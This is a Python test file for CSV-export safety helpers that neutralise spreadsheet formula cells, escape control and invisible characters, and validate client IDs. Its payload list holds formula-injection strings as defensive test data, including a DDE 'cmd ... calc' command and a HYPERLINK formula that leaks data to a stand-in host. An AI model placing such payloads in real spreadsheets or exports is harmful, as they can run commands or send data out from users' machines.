"""The pure text-safety functions: formula cells neutralised, control characters shown as
escapes, identifiers normalised and checked (measures.csv_safety, .printable, .identifiers)."""

from __future__ import annotations

import polars as pl
import pytest

from measures.csv_safety import FORMULA_STARTS, neutralise_cell, neutralise_text_columns
from measures.identifiers import ID_MAX_LENGTH, id_problem, normalise_id
from measures.printable import printable

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    '=HYPERLINK("http://example.invalid/?leak","click")',
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_gets_a_leading_quote(payload):
    assert neutralise_cell(payload) == "'" + payload
    frame = pl.DataFrame({"text": [payload]})
    assert neutralise_text_columns(frame)["text"].to_list() == ["'" + payload]
    lazy = neutralise_text_columns(frame.lazy()).collect()
    assert lazy["text"].to_list() == ["'" + payload]


def test_numbers_nulls_and_harmless_text_are_left_alone():
    frame = pl.DataFrame(
        {
            "text": ["-1+1", None, "C0001", "'=quoted already", " =1", "O'Neil"],
            "whole": [-1, 2, 3, 4, 5, 6],
            "real": [-1.5, None, 0.0, 1.0, 2.0, 3.0],
        }
    )
    written = neutralise_text_columns(frame)
    assert written["text"].to_list() == [
        "'-1+1",
        None,
        "C0001",
        "'=quoted already",
        " =1",
        "O'Neil",
    ]
    assert written.select("whole", "real").equals(frame.select("whole", "real"))
    assert written.schema == frame.schema


def test_a_label_column_is_neutralised_only_where_a_label_needs_it():
    safe = pl.DataFrame({"band": ["Mild"]}, schema={"band": pl.Enum(["Mild", "Severe"])})
    assert neutralise_text_columns(safe).schema == safe.schema  # untouched, still an Enum
    risky = pl.DataFrame({"band": ["-low"]}, schema={"band": pl.Enum(["-low", "Severe"])})
    assert neutralise_text_columns(risky)["band"].to_list() == ["'-low"]


def test_escaping_controls_first_leaves_no_control_character_in_a_cell():
    frame = pl.DataFrame({"text": ["\t=1+1", "A\x1b[31m", "C\u202e1", "=x\ny"]})
    written = neutralise_text_columns(frame, escape_controls=True)["text"].to_list()
    assert written == ["\\t=1+1", "A\\x1b[31m", "C\\u202e1", "'=x\\ny"]


def test_formula_starts_follow_owasp_and_asvs():
    # OWASP CSV Injection: = + - @ tab carriage return; ASVS 5.0 1.2.10 adds NUL
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r", "\x00"}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("C\u202e1000", "C\\u202e1000"),  # right-to-left override
        ("C\u200b1000", "C\\u200b1000"),  # zero-width space
        ("C\x001000", "C\\x001000"),  # NUL
        ("C\x1b[31m1000", "C\\x1b[31m1000"),  # ANSI escape
        ("C\n1000", "C\\n1000"),  # embedded newline
        ("C\u20281000", "C\\u20281000"),  # line separator
        ("Zoë Ångström 東京", "Zoë Ångström 東京"),  # letters of any script stay
    ],
)
def test_printable_shows_control_and_invisible_characters_as_escapes(text, shown):
    assert printable(text) == shown


@pytest.mark.parametrize(
    ("written", "stored"),
    [
        ("C\uff11\uff10\uff10\uff10", "C1000"),  # full-width digits: accepted as digits
        ("\uff23\uff10\uff10\uff10\uff11", "C0001"),  # full-width letter and digits
        ("E\u2460", "E1"),  # circled digit one
        (" C1 ", "C1"),
    ],
)
def test_compatibility_forms_normalise_to_a_valid_id(written, stored):
    assert normalise_id(written) == stored
    assert id_problem(normalise_id(written)) is None


@pytest.mark.parametrize(
    "value",
    [
        "C\u202e1000",
        "C\u200b1000",
        "C\x001000",
        "C\x1b[31m1000",
        "C\n1000",
        "=1+1",
        "-1",
        "_C1",
        "C 1",
        "Cé1",
        "C" * (ID_MAX_LENGTH + 1),
    ],
)
def test_look_alike_control_and_formula_ids_are_refused(value):
    problem = id_problem(normalise_id(value), column="client_id")
    assert problem is not None
    assert problem.startswith("client_id ")
    assert printable(problem) == problem  # the reason itself prints safely
